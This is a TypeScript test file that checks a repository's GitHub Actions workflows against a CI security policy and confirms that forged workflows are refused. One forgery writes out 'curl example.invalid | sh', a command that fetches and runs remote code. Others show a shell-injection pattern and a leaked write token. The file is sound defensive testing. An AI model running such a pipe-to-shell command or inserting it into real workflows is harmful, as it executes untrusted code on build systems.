// The workflows, proven before they reach GitHub: the policy (src/review/workflow-policy.ts) holds
// for each, and each forgery of the review found (a write token beside a pull request's code, a
// checkout that keeps its credentials, github.base_ref pasted into a shell, a step that is no npm
// script) is refused while the repository's own workflow passes. actionlint: review-actionlint.test.ts.
import { readFileSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { REPO_ROOT } from "../src/conformance/golden/golden.ts";
import { checkWorkflow, jobScripts } from "../src/review/workflow-policy.ts";

const DIR = join(REPO_ROOT, ".github/workflows");
const FILES = readdirSync(DIR)
  .filter((f) => f.endsWith(".yml"))
  .sort();
const SCRIPTS = new Set(
  Object.keys((JSON.parse(readFileSync(join(REPO_ROOT, "package.json"), "utf8")) as { scripts: object }).scripts),
);
const read = (f: string) => readFileSync(join(DIR, f), "utf8");

describe("the workflows hold the policy", () => {
  it("every workflow: read-only by default, no credentials kept, no expression in a shell, npm scripts only", () => {
    expect(FILES).toEqual(["ci.yml", "live.yml", "review-trigger.yml", "review.yml"]);
    for (const f of FILES) expect(checkWorkflow(f, read(f), SCRIPTS), f).toEqual([]);
  });

  it("only the review job writes, and it runs on workflow_run alone, from the default branch", () => {
    const review = read("review.yml");
    expect(review).toMatch(/on:\n {2}workflow_run:/);
    expect(review).toContain("statuses: write");
    for (const f of FILES.filter((x) => x !== "review.yml")) expect(read(f), f).not.toMatch(/: write\b/);
  });

  it("every step that runs code as root comes after the last step that runs as the runner in its job", () => {
    for (const f of FILES)
      for (const [job, steps] of Object.entries(jobScripts(read(f)))) {
        const firstRoot = steps.findIndex((s) => s.root && s.script !== "ci:userns");
        const lastUser = steps.findLastIndex((s) => !s.root);
        if (firstRoot !== -1)
          expect(lastUser, `${f} ${job}: a runner step after root wrote .scratch/ or reports/`).toBeLessThan(firstRoot);
      }
  });
});

describe("the policy refuses each forgery, and passes the same workflow without it", () => {
  const ci = read("ci.yml");
  const forgeries: [string, string, string][] = [
    [
      "a job of a pull_request workflow with a write token",
      ci.replace(
        "  contract:\n    runs-on: ubuntu-24.04\n",
        "  contract:\n    runs-on: ubuntu-24.04\n    permissions:\n      pull-requests: write\n",
      ),
      "write permissions in a workflow that runs on push, pull_request",
    ],
    [
      "no top-level permissions",
      ci.replace("permissions:\n  contents: read\n", ""),
      "the top-level permissions must be exactly contents: read",
    ],
    [
      "a checkout that keeps its credentials",
      ci.replace("        with:\n          persist-credentials: false\n", ""),
      "keeps the token in .git/config",
    ],
    [
      "github.base_ref pasted into a shell",
      ci.replace('--since "origin/$BASE_REF"', '--since "origin/${{ github.base_ref }}"'),
      "an expression pasted into the shell",
    ],
    [
      "an action from outside GitHub's own",
      ci.replace("uses: actions/cache/restore@v4", "uses: someone/cache-restore@v4"),
      "someone/cache-restore@v4: only GitHub's own actions",
    ],
    [
      "a step that is no npm script",
      ci.replace("      - run: npm run typecheck\n", "      - run: npx tsc --noEmit && curl example.invalid | sh\n"),
      "not one npm script, npm ci or a package install",
    ],
  ];
  it.each(forgeries)("%s", (_what, forged, problem) => {
    expect(forged, "the forgery changed the workflow").not.toBe(ci);
    expect(checkWorkflow("ci.yml", forged, SCRIPTS).join("\n")).toContain(problem);
  });
  it("control: the repository's ci.yml passes", () => {
    expect(checkWorkflow("ci.yml", ci, SCRIPTS)).toEqual([]);
  });
});
